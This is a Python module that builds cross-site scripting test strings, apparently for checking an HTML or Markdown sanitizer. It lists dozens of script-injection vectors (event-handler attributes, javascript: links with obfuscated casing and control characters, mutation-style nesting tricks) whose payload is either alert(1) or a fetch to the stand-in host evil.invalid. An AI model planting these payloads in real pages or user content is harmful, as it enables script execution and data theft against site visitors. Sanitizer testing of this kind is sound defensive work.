"""Texts that try to run code in a page that shows them; every attempt says so by `alert` or by a request to `EVIL`."""

from itertools import product

EVIL = "https://evil.invalid"
_RUN = "alert(1)"
_FETCH = f"fetch('{EVIL}/x')"

_TAGS = [
    "<script>{js}</script>",
    "<script src={evil}/x.js></script>",
    "<img src=x onerror={js}>",
    "<img src={evil}/x.png>",
    '<img src="x" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={js}>'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></table></mtext></math>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data={evil}/x></object>",
    "<embed src={evil}/x>",
    "<link rel=stylesheet href={evil}/x.css>",
    "<style>@import '{evil}/x.css';</style>",
    "<base href={evil}/>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<form action={evil}><button autofocus onfocus={js}>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<div style='background:url({evil}/x)'>x</div>",
    "<a href=javascript:{js}>x</a>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><img src=x onerror={js}></xmp>",
    "</textarea><img src=x onerror={js}>",
    "</title><svg onload={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<x/onpointerrawupdate={js} style=position:fixed;inset:0>",
]
_MARKDOWN = [
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](&#106;avascript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})",
    "[x]( javascript:{js})",
    "[x](\x01javascript:{js})",
    "<javascript:{js}>",
    '![x]({evil}/x.png"onerror="{js})',
    "![x]({evil}/x.png)",
    "![x](x)<img src=x onerror={js}>",
    "[x]: javascript:{js}\n\n[x]",
    '```html" onmouseover="{js}\nx\n```',
    "```<img src=x onerror={js}>\nx\n```",
    "`<img src=x onerror={js}>`",
    "| <img src=x onerror={js}> |\n|-|\n| <svg onload={js}> |",
    "# <img src=x onerror={js}>",
    '[x]({evil} "title\\" onmouseover={js}")',
    "<!-- -->\n<img src=x onerror={js}>",
]
_WRAPPERS = [
    "{x}",
    "before {x} after",
    "> {x}",
    "- {x}",
    "**{x}**",
    "\n\n{x}\n\n",
    "</p></div>{x}",
    "\"'>{x}",
    "&lt;{x}",
    "1. {x}",
    "~~{x}~~",
]


def payloads(count: int) -> list[str]:
    """That many different texts, the plain forms first."""
    made = [
        wrapper.replace("{x}", body.replace("{js}", js).replace("{evil}", EVIL))
        for wrapper, js, body in product(_WRAPPERS, (_RUN, _FETCH), _TAGS + _MARKDOWN)
    ]
    distinct = list(dict.fromkeys(made))
    assert len(distinct) >= count, f"only {len(distinct)} payloads"
    return distinct[:count]
